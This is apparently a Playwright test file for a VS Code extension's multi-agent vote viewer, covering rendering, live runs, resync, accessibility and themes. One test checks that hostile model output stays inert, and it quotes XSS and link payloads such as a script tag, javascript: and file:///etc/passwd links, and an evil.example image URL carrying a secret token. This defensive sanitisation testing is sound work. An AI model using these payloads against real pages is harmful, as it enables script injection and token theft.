@@ -1,0 +1,356 @@
+// The vote viewer bundle in real headless Chromium, fed by the real host hub replaying recorded engine runs: DOM
+// assertions, hostile model output, the snapshot/delta protocol across a lost delta and a reload, keyboard and
+// ARIA, reduced motion, and screenshots in light, dark and high-contrast themes (test-artifacts/screenshots/).
+
+import assert from 'node:assert/strict';
+import type { Browser } from 'playwright-core';
+import type { RunEvent } from '../../src/core/engine/events';
+import { reduceEvents } from '../../src/core/engine/run-state';
+import { RunHistory } from '../../src/host/viewer/history';
+import { createHarness, describeInChromium, launchChromium, MemoryFs, replay, servePage, ViewerPage, webviewBundle, type Harness, type PageServer } from './harness';
+import { fullRun, hostileRun, midRun, tieRun } from './scenarios';
+import type { ThemeName } from './themes';
+
+const THEMES: ThemeName[] = ['light', 'dark'];
+
+describeInChromium('vote viewer in Chromium', function () {
+  this.timeout(90_000);
+  let browser: Browser;
+  let server: PageServer;
+  let full: RunEvent[];
+  let tie: RunEvent[];
+  let hostile: RunEvent[];
+  let mid: RunEvent[];
+  const pages: ViewerPage[] = [];
+  const harnesses: Harness[] = [];
+
+  before(async () => {
+    [browser, server, full, tie, hostile, mid] = await Promise.all([launchChromium(), webviewBundle().then(servePage), fullRun(), tieRun(), hostileRun(), midRun().then((m) => m.events)]);
+  });
+
+  after(async () => {
+    for (const h of harnesses) h.hub.dispose();
+    await browser?.close();
+    await server?.close();
+  });
+
+  afterEach(async () => {
+    for (const p of pages.splice(0)) await p.close();
+  });
+
+  async function harness(history: RunHistory | null = null): Promise<Harness> {
+    const h = await createHarness(browser, server, { history, hub: { coalescer: { intervalMs: 20 }, headDelayMs: 200 } });
+    harnesses.push(h);
+    return h;
+  }
+
+  async function open(h: Harness, options: Parameters<typeof ViewerPage.open>[1] = {}): Promise<ViewerPage> {
+    const p = await ViewerPage.open(h, options);
+    pages.push(p);
+    await p.settle();
+    return p;
+  }
+
+  async function assertClean(p: ViewerPage): Promise<void> {
+    assert.deepEqual(await p.cspViolations(), [], 'no CSP violations');
+    assert.deepEqual(p.pageErrors, [], 'no page errors');
+  }
+
+  it('empty state: what MassGen is, how to start, which agents; its buttons ask the host', async () => {
+    const h = await harness();
+    for (const theme of THEMES) {
+      const p = await open(h, { theme });
+      const text = await p.page.locator('.empty').innerText();
+      assert.match(text, /Several AI agents work on your task in parallel/);
+      assert.match(text, /Run on Selection/);
+      assert.match(text, /@massgen/);
+      assert.match(text, /your VS Code chat models will be used/);
+      await p.screenshot(`empty-view-${theme}`);
+      await assertClean(p);
+    }
+    h.services.setupValue = { agents: [{ id: 'fast', provider: 'openai', model: 'gpt-4.1-mini' }, { provider: 'anthropic', model: 'claude-haiku-4-5' }], configFile: null };
+    h.hub.setupChanged();
+    const p = pages[pages.length - 1];
+    await p.settle();
+    const agents = await p.page.locator('.setup-agents li').allInnerTexts();
+    assert.deepEqual(agents.map((t) => t.replace(/\s+/g, ' ').trim()), ['fast gpt-4.1-mini · openai', 'agent2 claude-haiku-4-5 · anthropic']);
+    await p.page.getByRole('button', { name: 'Ask @massgen in Chat' }).click();
+    await p.page.getByRole('button', { name: 'Run on the current selection' }).click();
+    await p.page.getByRole('button', { name: 'Configure agents…' }).click();
+    await p.settle();
+    await new Promise((r) => setTimeout(r, 50));
+    assert.deepEqual(h.services.commands, [['workbench.action.chat.open', { query: '@massgen ' }], ['massgen.runOnSelection'], ['workbench.action.openSettings', 'massgen.agents']]);
+  });
+
+  it('a finished run: columns, badges, answer versions, critiques with stale votes, tally, timeline, result and actions', async () => {
+    const h = await harness();
+    const run = h.source.start('run-full', 'Refactor parseConfig() in src/config.ts', full.slice(0, 1));
+    await replay(run, full.slice(1));
+    const state = reduceEvents(full);
+    for (const theme of [...THEMES, 'hc'] as ThemeName[]) {
+      const p = await open(h, { theme, surface: 'panel' });
+      await p.screenshot(`finished-panel-${theme}`);
+      await assertClean(p);
+    }
+    const p = pages[0];
+    const page = p.page;
+    // Header
+    assert.match(await page.locator('.phase').innerText(), /Done · Consensus/);
+    assert.match(await page.locator('.run-header .usage').innerText(), /tokens · ≥ \$/);
+    assert.equal(await page.locator('.cancel-run').isVisible(), false, 'no Cancel once done');
+    assert.equal(await page.locator('.meter-row').count(), 2, 'cost and tokens budgets');
+    // Columns: one per agent, with name, model, badge and usage.
+    const columns = page.locator('.agent');
+    assert.equal(await columns.count(), 5);
+    const heads = await page.locator('.agent .agent-name').allInnerTexts();
+    assert.deepEqual(heads.map((t) => t.replace(/\s+/g, ' ')), state.agents.map((a) => `${a.label} ${a.id}`));
+    const badges = await page.locator('.agent .badge-text').allInnerTexts();
+    assert.deepEqual(badges, ['voted', 'voted', 'voted', 'failed', 'voted']);
+    assert.match(await page.locator('.agent[data-agent="security-auditor"] .agent-error').innerText(), /500 Internal Server Error/);
+    assert.match(await page.locator('.agent[data-agent="careful-reviewer"] .tools').innerText(), /read_file\s+path: "src\/config.ts"/);
+    // Answer versions, the latest open; critiques under the version they judged, stale ones struck through.
+    const b = page.locator('.agent[data-agent="pragmatic-engineer"]');
+    assert.deepEqual(await b.locator('.answer-label').allInnerTexts(), ['agent2.1', 'agent2.2']);
+    assert.equal(await b.locator('details.answer[data-label="agent2.2"]').getAttribute('open'), '');
+    assert.equal(await b.locator('details.answer[data-label="agent2.1"]').getAttribute('open'), null);
+    assert.match(await b.locator('details.answer[data-label="agent2.2"] .answer-body').innerText(), /keep JSON errors apart/);
+    assert.equal(await b.locator('[data-label="agent2.2"] .critique').count(), 4);
+    const stale = b.locator('[data-label="agent2.1"] .critique.stale');
+    assert.equal(await stale.count(), 2);
+    assert.equal(await stale.first().locator('s.critique-reason').count(), 1, 'struck through');
+    assert.match(await stale.first().locator('.stale-why').textContent() ?? '', /No longer counts: new answer agent2.2/);
+    assert.match(await b.locator('[data-label="agent2.1"] .answer-stale').innerText(), /2 stale/);
+    // Opening an older version renders it on demand.
+    await b.locator('[data-label="agent2.1"] summary').click();
+    await b.locator('[data-label="agent2.1"] .answer-body p').first().waitFor();
+    assert.match(await b.locator('[data-label="agent2.1"] .answer-body').innerText(), /safeParse/);
+    // Tally: the winner highlighted with its voters.
+    const winner = page.locator('.tally-row.winner');
+    assert.equal(await winner.count(), 1);
+    assert.match(await winner.innerText(), /agent2\.2[\s\S]*4[\s\S]*from agent1, agent2, agent3, agent5/);
+    assert.equal(await page.locator('.tie-break').count(), 0);
+    // Timeline: a lane per agent (and the run), with answers, votes, stale votes, restarts, retries, failures.
+    assert.equal(await page.locator('.lane-head').count(), 6);
+    for (const [kind, n] of [
+      ['answer', state.answers.length],
+      ['vote', state.votes.length],
+      ['stale', 3],
+      ['failed', 1],
+      ['winner', 1],
+    ] as const) {
+      assert.equal(await page.locator(`.timeline-grid .tl-${kind}`).count(), n, kind);
+    }
+    assert.ok((await page.locator('.timeline-grid .tl-restart').count()) >= 1);
+    assert.ok((await page.locator('.timeline-grid .tl-retry').count()) >= 1);
+    // Result and actions.
+    const result = page.locator('.result');
+    assert.match(await result.locator('.end-reason').innerText(), /^Consensus$/);
+    assert.match(await result.locator('.result-winner').innerText(), /Winner agent2\.2 \(pragmatic-engineer\)/);
+    assert.match(await result.locator('.final-answer').innerText(), /keep JSON errors apart/);
+    await result.getByRole('button', { name: 'Preview the winner as a diff' }).click();
+    await result.getByRole('button', { name: 'Apply the winner' }).click();
+    await result.getByRole('button', { name: 'Copy the final answer' }).click();
+    await result.getByRole('button', { name: 'Open the MassGen log' }).click();
+    await new Promise((r) => setTimeout(r, 100));
+    assert.deepEqual(h.services.commands, [['massgen.previewRun', 'run-full'], ['massgen.applyRun', 'run-full'], ['massgen.showLog']]);
+    assert.deepEqual(h.services.copied, [state.finalAnswer!.content]);
+    await p.settle();
+    assert.match(await page.locator('.notice').innerText(), /copied/);
+    // An https link in model output opens through the host.
+    await page.locator('.final-answer a', { hasText: 'zod docs' }).click();
+    await new Promise((r) => setTimeout(r, 50));
+    assert.deepEqual(h.services.opened, ['https://zod.dev/api#numbers']);
+    assert.equal(page.url().endsWith('/panel.html'), true, 'the page did not navigate');
+  });
+
+  it('a live run: streaming, thinking, a retry counting down, Cancel, per-agent Cancel, collapsing columns', async () => {
+    const h = await harness();
+    const cut = mid.length - 30;
+    const run = h.source.start('run-live', 'Refactor parseConfig() in src/config.ts', mid.slice(0, 1));
+    await replay(run, mid.slice(1, cut));
+    const p = await open(h, { theme: 'dark', width: 320 });
+    await replay(run, mid.slice(cut), 3, 25);
+    await p.settle();
+    const page = p.page;
+    assert.equal(await page.locator('.agent[data-status="streaming"]').count(), 2);
+    assert.equal(await page.locator('.agent[data-status="thinking"]').count(), 1);
+    const streaming = page.locator('.agent[data-status="streaming"]').first();
+    assert.match(await streaming.locator('.output .stream').innerText(), /Result type[\s\S]*zod/);
+    assert.equal(await streaming.locator('.output .stream code').count() > 0, true, 'markdown rendered');
+    const thinking = page.locator('.agent[data-status="thinking"]');
+    assert.equal(await thinking.locator('details.reasoning').isVisible(), true);
+    assert.equal(await thinking.locator('details.reasoning').getAttribute('open'), null, 'reasoning collapsed');
+    const retry = page.locator('.agent .badge.kind-retrying .badge-text');
+    const first = Number(/retrying in (\d+) s/.exec(await retry.innerText())?.[1]);
+    assert.ok(first >= 7 && first <= 9, String(first));
+    await new Promise((r) => setTimeout(r, 2100));
+    const later = Number(/retrying in (\d+) s/.exec(await retry.innerText())?.[1]);
+    assert.ok(later <= first - 1, `${first} → ${later}: counts down`);
+    assert.equal(await page.locator('.cancel-run').isVisible(), true);
+    assert.match(await page.locator('.phase').innerText(), /Round \d/);
+    for (const theme of THEMES) {
+      const q = await open(h, { theme, width: 320 });
+      await q.screenshot(`live-view-${theme}`);
+      const wide = await open(h, { theme, surface: 'panel', width: 1280, height: 1000 });
+      await wide.screenshot(`live-panel-${theme}`, false);
+      await assertClean(q);
+    }
+    await page.locator('.cancel-run').click();
+    const agentId = await streaming.getAttribute('data-agent');
+    await streaming.locator('.agent-cancel').click();
+    await new Promise((r) => setTimeout(r, 100));
+    assert.equal(run.cancelled, true);
+    assert.deepEqual(run.cancelledAgents, [agentId]);
+    // Collapsing a column is kept in the page state.
+    await streaming.locator('.agent-collapse').click();
+    assert.equal(await streaming.getAttribute('class'), 'agent collapsed');
+    const saved = await page.evaluate(() => (window as unknown as { __savedState: { collapsed: string[] } }).__savedState);
+    assert.deepEqual(saved.collapsed, [agentId]);
+    await p.screenshot('live-view-collapsed-dark');
+    await assertClean(p);
+  });
+
+  it('states the tie-break', async () => {
+    const h = await harness();
+    const run = h.source.start('run-tie', 'Pick the better data structure', tie.slice(0, 1));
+    await replay(run, tie.slice(1));
+    const p = await open(h, { theme: 'light', surface: 'panel', width: 900 });
+    assert.match(await p.page.locator('.tie-break').innerText(), /Tie between agent1\.1 and agent2\.1 \(1 vote each\): broken by agent order, so agent1\.1 wins\./);
+    await p.screenshot('tie-panel-light');
+    await assertClean(p);
+  });
+
+  it('hostile model output renders inert and readable', async () => {
+    const h = await harness();
+    const run = h.source.start('run-hostile', 'Hostile', hostile.slice(0, 1));
+    await replay(run, hostile.slice(1));
+    const p = await open(h, { theme: 'dark', surface: 'panel', width: 1100 });
+    const requests: string[] = [];
+    p.page.on('request', (r) => requests.push(r.url()));
+    const page = p.page;
+    // Open every answer so all of them are rendered.
+    for (const s of await page.locator('details.answer:not([open]) > summary').all()) await s.click();
+    await p.settle();
+    await new Promise((r) => setTimeout(r, 300));
+    const report = await page.evaluate(() => {
+      const root = document.getElementById('root')!;
+      const all = Array.from(root.querySelectorAll('*'));
+      return {
+        pwned: (window as unknown as { __pwned?: string }).__pwned ?? null,
+        scripts: document.scripts.length,
+        forbidden: all.filter((e) => /^(SCRIPT|IMG|IFRAME|STYLE|OBJECT|EMBED|FORM|INPUT|SVG|MATH|LINK|META)$/i.test(e.tagName)).map((e) => e.tagName),
+        handlers: all.flatMap((e) => Array.from(e.attributes).filter((a) => /^on/i.test(a.name) || (a.name === 'style' && e.closest('.md'))).map((a) => `${e.tagName}[${a.name}]`)),
+        hrefs: Array.from(root.querySelectorAll('[href]')).map((e) => e.getAttribute('href')),
+        blocked: Array.from(root.querySelectorAll('.md-blocked-link')).map((e) => e.textContent),
+        overflow: document.documentElement.scrollWidth - document.documentElement.clientWidth,
+        columns: Array.from(document.querySelectorAll('.agent')).map((e) => e.getBoundingClientRect().width),
+        text: root.innerText,
+      };
+    });
+    assert.equal(report.pwned, null, 'no injected code ran');
+    assert.equal(report.scripts, 1, 'only our script');
+    assert.deepEqual(report.forbidden, []);
+    assert.deepEqual(report.handlers, []);
+    assert.ok(report.hrefs.length > 0);
+    assert.ok(report.hrefs.every((href) => href?.startsWith('https://')), JSON.stringify(report.hrefs));
+    // command: and http: links are kept as (inert) text; markdown-it itself refuses javascript:, data: and file:.
+    for (const name of ['run a command', 'plain http']) assert.ok(report.blocked.includes(name), `${name} is shown as text, not a link`);
+    for (const literal of ['[click me](javascript:', '[data](data:text/html', '[file](file:///etc/passwd)']) assert.ok(report.text.includes(literal), literal);
+    // An image is never loaded: it becomes a link (opened only on click, through the host, https only).
+    assert.equal(await page.locator('a.md-image', { hasText: '[image: exfiltrate]' }).first().getAttribute('href'), 'https://evil.example/leak.png?secret=TOKEN');
+    assert.equal(report.overflow, 0, 'no horizontal overflow of the page');
+    assert.ok(report.columns.every((w) => w <= 721), JSON.stringify(report.columns));
+    for (const visible of ['<script>window.__pwned', 'END-OF-HOSTILE-ANSWER', 'level 199', 'quote 59', 'It <b>renders</b> everything.', 'Explain <script>window.__pwned="task"</script>']) {
+      assert.ok(report.text.includes(visible) || (await page.locator('.task-text').textContent())?.includes(visible), `readable: ${visible}`);
+    }
+    // Clicks on blocked links do nothing; a safe link goes through the host.
+    await page.locator('.md-blocked-link', { hasText: 'run a command' }).first().click();
+    await page.locator('a[href="https://example.com/docs?a=1&b=2"]').first().click();
+    await new Promise((r) => setTimeout(r, 100));
+    assert.deepEqual(h.services.opened, ['https://example.com/docs?a=1&b=2']);
+    assert.ok(requests.every((u) => u.startsWith(server.origin)), `no request leaves the page's origin: ${requests.join(', ')}`);
+    assert.deepEqual(server.leaks, []);
+    await p.screenshot('hostile-panel-dark');
+    await assertClean(p);
+  });
+
+  it('protocol: a lost delta makes the page ask for a snapshot; a reload restores from a snapshot; a past run reopens read-only', async () => {
+    const fs = new MemoryFs();
+    const h = await harness(new RunHistory(fs, { warn: () => undefined }));
+    let deltas = 0;
+    const p = await open(h, { theme: 'dark', surface: 'panel', filter: (m) => !(m.type === 'delta' && ++deltas === 4) });
+    const run = h.source.start('run-gap', 'Gap test', full.slice(0, 1));
+    await replay(run, full.slice(1), 4, 30);
+    await new Promise((r) => setTimeout(r, 400));
+    await p.settle();
+    assert.ok(p.fromPage.some((m) => m.type === 'resync'), 'asked for a snapshot');
+    const count = async () => ({ answers: await p.page.locator('details.answer').count(), votes: await p.page.locator('.critique').count(), final: await p.page.locator('.final-answer').innerText() });
+    const expected = reduceEvents(full);
+    const before = await count();
+    assert.deepEqual([before.answers, before.votes], [expected.answers.length, expected.votes.length]);
+    // Reload: the page asks again and gets the same projection.
+    p.fromPage.length = 0;
+    await p.page.reload();
+    await p.waitFor((m) => m.type === 'ready');
+    await p.settle();
+    assert.deepEqual(await count(), before);
+    const stats = await p.page.evaluate(() => (window as unknown as { massgenViewer: { stats: { lastSnapshotMs: number } } }).massgenViewer.stats);
+    assert.ok(stats.lastSnapshotMs < 250, `snapshot rendered in ${stats.lastSnapshotMs.toFixed(1)} ms`);
+    // The run was stored when it ended; a new window (new hub, no live runs) reopens it read-only.
+    assert.ok(fs.files.has('run-run-gap.json'));
+    const h2 = await harness(new RunHistory(fs, { warn: () => undefined }));
+    await new Promise((r) => setTimeout(r, 20));
+    const q = await open(h2, { theme: 'light', surface: 'panel', state: { runId: null, follow: true, collapsed: [], closed: [] } });
+    await q.page.getByRole('button', { name: /Gap test/ }).click();
+    await q.settle();
+    await new Promise((r) => setTimeout(r, 100));
+    await q.settle();
+    assert.equal(await q.page.locator('.banner.readonly').isVisible(), true);
+    assert.equal(await q.page.locator('.result vscode-button[aria-label="Apply the winner"]').getAttribute('disabled'), '');
+    assert.equal(await q.page.locator('.agent-cancel:visible').count(), 0);
+    assert.equal(await q.page.locator('details.answer').count(), expected.answers.length);
+    await q.screenshot('past-run-panel-light');
+    await assertClean(q);
+  });
+
+  it('keyboard and screen readers: every control is named, reachable with Tab and works with the keyboard', async () => {
+    const h = await harness();
+    const run = h.source.start('run-kbd', 'Keyboard', full.slice(0, 1));
+    await replay(run, full.slice(1));
+    const p = await open(h, { theme: 'dark', surface: 'panel' });
+    const unnamed = await p.page.evaluate(() => {
+      const controls = Array.from(document.querySelectorAll('button, vscode-button, summary, [role="button"], [tabindex="0"], a[href]'));
+      return controls
+        .filter((e) => !(e as HTMLElement).closest('[hidden]'))
+        .filter((e) => !(e.getAttribute('aria-label') || (e.textContent ?? '').trim()))
+        .map((e) => e.outerHTML.slice(0, 120));
+    });
+    assert.deepEqual(unnamed, []);
+    // Tab moves through the controls in order; Enter toggles a column.
+    const visited = new Set<string>();
+    for (let i = 0; i < 40; i++) {
+      await p.page.keyboard.press('Tab');
+      visited.add(await p.page.evaluate(() => (document.activeElement?.getAttribute('aria-label') ?? document.activeElement?.textContent ?? '').trim().slice(0, 40)));
+    }
+    assert.ok(visited.size > 20, `Tab reached ${visited.size} distinct controls`);
+    const collapse = p.page.locator('.agent-collapse').first();
+    await collapse.focus();
+    await p.page.keyboard.press('Enter');
+    assert.equal(await collapse.getAttribute('aria-expanded'), 'false');
+    const focusRing = await collapse.evaluate((e) => getComputedStyle(e).outlineStyle);
+    assert.notEqual(focusRing, 'none', 'visible focus');
+    await p.page.keyboard.press('Enter');
+    assert.equal(await collapse.getAttribute('aria-expanded'), 'true');
+  });
+
+  it('respects reduced motion', async () => {
+    const h = await harness();
+    const run = h.source.start('run-motion', 'Motion', mid.slice(0, 1));
+    await replay(run, mid.slice(1));
+    const moving = await open(h, { theme: 'dark' });
+    const still = await open(h, { theme: 'dark', reducedMotion: true });
+    const animation = (p: ViewerPage) => p.page.locator('.codicon-modifier-spin').first().evaluate((e) => getComputedStyle(e).animationName);
+    assert.notEqual(await animation(moving), 'none');
+    assert.equal(await animation(still), 'none');
+  });
+});
